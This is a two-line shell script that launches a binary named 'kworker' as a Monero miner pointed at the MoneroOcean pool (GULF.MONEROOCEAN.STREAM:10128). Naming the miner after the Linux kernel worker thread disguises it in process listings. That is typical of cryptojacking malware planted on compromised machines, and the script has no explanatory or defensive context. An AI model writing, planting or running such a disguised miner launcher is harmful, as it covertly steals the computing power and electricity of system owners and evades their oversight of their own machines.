#!/bin/sh
./kworker -o GULF.MONEROOCEAN.STREAM:10128 -u x -k
